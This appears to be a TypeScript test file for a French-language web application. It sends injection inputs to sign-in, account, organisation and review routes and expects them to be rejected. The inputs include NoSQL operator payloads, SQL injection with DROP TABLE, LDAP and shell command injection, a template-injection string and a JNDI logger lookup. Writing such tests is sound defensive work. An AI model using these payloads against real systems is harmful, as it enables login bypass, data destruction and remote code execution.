import { ask, form, json, type Row } from '../support/row.ts';

const signIn = '/fr/sign-in';
const organisation = 'legalForm=association&street=Rue+1&postcode=1201&commune=Gen%C3%A8ve';

/** Fields that a parser of brackets would turn into operators of the database. */
const inForms: readonly (readonly [string, string])[] = [
  ['greater than nothing', 'email[$gt]='],
  ['not equal', 'email[$ne]=x'],
  ['any text', 'email[$regex]=.*'],
  ['a program', 'email[$where]=sleep(5000)'],
  ['a list of choices', 'email[$in][]=a@specimen.example'],
  ['an escaped dollar', 'email%5B%24gt%5D='],
  ['a dot in place of brackets', 'email.$gt='],
  ['an operator on top', '$where=this.email'],
  ['an alternative on top', '$or[0][email][$gt]='],
  ['an operator beside the field', 'email=a@specimen.example&email[$gt]='],
  ['an operator in an operator', 'email[$not][$eq]='],
  ['an expression', 'email[$expr][$function][body]=1'],
  ['brackets that are not closed', 'email[$gt='],
  ['brackets of forty levels', `email${'[a]'.repeat(40)}=x`],
  ['a list where a text is meant', 'email[]=a@specimen.example&email[]=b@specimen.example'],
  ['an index of a list', 'email[0]=a@specimen.example'],
  ['an index of a billion', 'email[1000000000]=a@specimen.example'],
  ['an operator as a text', 'email={"$gt":""}'],
  ['a query that always holds', "email=' || '1'=='1"],
  ['a command of SQL', "email=a@specimen.example'; DROP TABLE people;--"],
  ['a filter of LDAP', 'email=*)(uid=*))(|(uid=*'],
  ['a command of a shell', 'email=a@specimen.example;$(id)'],
  ['a template of a server', 'email={{range.constructor("return process")()}}@specimen.example'],
  ['a look-up of a logger', 'email=\x24{jndi:ldap://elsewhere.example/a}'],
];

/** Bodies of JSON in which a text is something else. */
const inJson: readonly (readonly [string, string])[] = [
  ['greater than nothing', '{"email":{"$gt":""}}'],
  ['not equal', '{"email":{"$ne":null}}'],
  ['any text', '{"email":{"$regex":".*"}}'],
  ['a program', '{"email":{"$where":"sleep(5000)"}}'],
  ['a list of choices', '{"email":{"$in":["a@specimen.example"]}}'],
  ['an operator on top', '{"$where":"1","email":"a@specimen.example"}'],
  ['an alternative on top', '{"$or":[{},{}]}'],
  ['a list', '{"email":["a@specimen.example"]}'],
  ['a number', '{"email":1}'],
  ['a truth', '{"email":true}'],
  ['nothing', '{"email":null}'],
  ['an object that says it is a text', '{"email":{"toString":"a@specimen.example","length":5}}'],
  ['an id of the database', '{"email":{"$oid":"000000000000000000000000"}}'],
  ['a type of the database', '{"email":{"_bsontype":"Code","code":"1"}}'],
  ['a body that is a list', '[{"email":"a@specimen.example"}]'],
  ['a body that is empty', '{}'],
];

/** Operators in bodies, addresses and paths: no field of ours is anything but a text, and no filter is made of what was sent. */
export const operators: readonly Row[] = [
  ...inForms.map(([what, fields]) => form(`an operator in a form: ${what}`, signIn, fields, 422)),
  ...inJson.map(([what, text]) => json(`an operator in JSON: ${what}`, signIn, text, 422)),
  ...['code[$ne]=1', 'code[$regex]=^', 'code=1&code=2'].map((fields) =>
    form(`an operator for a code: ${fields}`, '/fr/sign-in/code', fields, 422),
  ),
  ...['t[$ne]=1', 't[$exists]=true', 't=a&t=b', 't='].map((fields) =>
    form(`an operator for a link: ${fields}`, '/fr/sign-in/link', fields, fields === 't=' ? 401 : 422),
  ),
  ask('an operator for a link in the address', '/fr/sign-in/link?t[$ne]=1', 401),
  ask('a list for a link in the address', '/fr/sign-in/link?t=a&t=b', 401),
  ask('an operator as id of a file', '/fr/applications/%7B%22$gt%22:%22%22%7D', 404, { as: 'applicant' }),
  ask('an operator as id of a file of evidence', '/fr/evidence/%7B%22$ne%22:null%7D', 404, {
    as: 'applicant',
  }),
  ask('an operator as id of a review', '/fr/review/$where', 404, { as: 'reviewer' }),
  ask('an operator as number of a label', '/fr/labels/%7B%22$ne%22:1%7D', 404),
  ask('an operator as number for a program', '/api/v1/labels/%7B%22$ne%22:1%7D', 404),
  ask('a command of SQL as number of a label', "/fr/labels/1'%20OR%20'1'='1", 404),
  ask('an operator for a way out of letters', '/fr/unsubscribe?person[$ne]=1&topic[$ne]=1&token[$ne]=1', 404),
  form('an operator for a session to end', '/fr/account/sessions/end', 'id[$ne]=1', 422, { as: 'applicant' }),
  form('an operator for a passkey to remove', '/fr/account/passkeys/remove', 'id[$gt]=', 422, {
    as: 'applicant',
  }),
  json('an object for a session to end', '/fr/account/sessions/end', '{"id":{"$ne":""}}', 422, {
    as: 'applicant',
  }),
  json('an object for a passkey to remove', '/fr/account/passkeys/remove', '{"id":{"$gt":""}}', 422, {
    as: 'applicant',
  }),
  json('an object for a name', '/fr/account', '{"name":{"$set":"x"},"language":"fr"}', 422, {
    as: 'applicant',
  }),
  form('an update for a name', '/fr/account', 'name[$rename]=roles&language=fr', 422, { as: 'applicant' }),
  form('roles with the name', '/fr/account', 'name=X&language=fr&roles=administrator', 422, {
    as: 'applicant',
  }),
  form('an organisation of an operator', '/fr/organisations/new', `name[$gt]=&${organisation}`, 422, {
    as: 'applicant',
  }),
  form('an owner with the organisation', '/fr/organisations/new', `name=X&${organisation}&owner=x`, 422, {
    as: 'applicant',
  }),
  form(
    'an operator for a person to invite',
    '/fr/files/§evaluation/invite',
    'revision=1&person[$ne]=1',
    422,
    { as: 'officer' },
  ),
  form('an operator for a revision', '/fr/files/§evaluation/staff', 'revision[$gte]=0', 422, {
    as: 'officer',
  }),
  form('a chain of the journal of an operator', '/fr/journal/verify', 'stream[$gt]=', 422, {
    as: 'administrator',
  }),
  json('a passkey of operators', '/fr/sign-in/passkey', '{"id":{"$ne":""},"response":{"$gt":""}}', 401),
];
